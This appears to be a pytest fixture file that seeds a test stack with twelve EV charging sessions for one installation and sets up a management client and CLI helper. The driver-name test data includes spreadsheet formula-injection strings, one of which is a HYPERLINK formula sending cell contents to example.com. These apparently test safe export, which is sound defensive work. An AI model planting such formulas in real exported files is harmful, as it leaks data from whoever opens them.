"""A running stack with an installation whose log is written into storage, and zapctl beside it."""

from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NamedTuple

import httpx
import pytest

from devhost.stack import Stack
from shared.storage.chargers import Charger
from shared.storage.installations import Installation
from shared.storage.session_index import SessionEntry, SessionIndex
from tests.api.inside import services_of
from tests.api.promised import check_promised
from tests.cli.conftest import describe
from tests.cli.zapctl import Zapctl

FIRST = datetime(2025, 10, 25, 22, 30, tzinfo=UTC)
"""The night before the clocks of Europe go back."""
INSTALLATION = "20000000-0000-4000-8000-00000000000c"
CHARGER = "20000000-0000-4000-9000-00000000000c"
NAME = "Fjordveien; -1"
DRIVERS = ('=HYPERLINK("http://example.com/?"&A1)', 'Ada "the first",\nLovelace', "Åse Ødegård", "-2+3;@SUM(A1)")


class Log(NamedTuple):
    entries: list[SessionEntry]
    span: dict[str, str]
    """Parameters for these sessions and no others."""


@pytest.fixture(scope="session")
async def log(stack: Stack) -> Log:
    """Twelve sessions an hour apart, the last of which still goes on."""
    entries = []
    for number in range(12):
        start = FIRST + timedelta(hours=number)
        ended = number < 11
        entries.append(
            SessionEntry(
                session_id=f"20000000-0000-4000-a000-{number:012x}",
                listed_at=start,
                facts=2,
                status="ended" if ended else "charging",
                start_known=True,
                installation_id=INSTALLATION,
                charger_id=CHARGER,
                driver=DRIVERS[number % 4],
                start=start,
                end=start + timedelta(minutes=30, seconds=number) if ended else None,
                energy_kwh=number / 8 if ended else None,
                source="charge-history",
                billable=ended and number > 0,
                flags=("not-ours", "offline") if number == 3 else (),
                token_name="blue tag",
                external_id="@home" if number == 4 else None,
            )
        )
    async with services_of(stack) as services:
        await services.installations.put(Installation(id=INSTALLATION, name=NAME))
        await services.directory.register([Charger(id=CHARGER, installation_id=INSTALLATION, name="Plass 7")])
        await SessionIndex(services.tables).put_new(entries)
    span = {"installation": INSTALLATION, "from": "2025-10-25T00:00:00Z", "to": "2025-10-27T00:00:00Z"}
    return Log(entries, span)


@pytest.fixture
async def management(stack: Stack) -> AsyncIterator[httpx.AsyncClient]:
    """An operator, to whom every answer must be one that the document promises."""
    async with stack.host.management() as client:
        client.event_hooks["response"] = [check_promised]
        yield client


@pytest.fixture
def zapctl(stack: Stack, tmp_path: Path) -> Zapctl:
    describe(stack, tmp_path)
    return Zapctl(tmp_path)
